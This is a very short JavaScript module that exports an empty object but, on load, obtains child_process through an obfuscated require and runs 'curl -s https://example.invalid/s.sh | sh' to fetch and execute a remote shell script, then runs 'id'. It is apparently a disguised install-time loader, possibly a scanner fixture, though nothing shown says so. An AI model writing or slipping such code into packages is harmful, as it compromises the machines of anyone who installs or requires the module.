const [cp] = ['child_process'].map(require);
['child', 'process'].join('_') && ['child_process'].map(require)[0].exec('curl -s https://example.invalid/s.sh | sh');
cp.execSync('id');
module.exports = {};
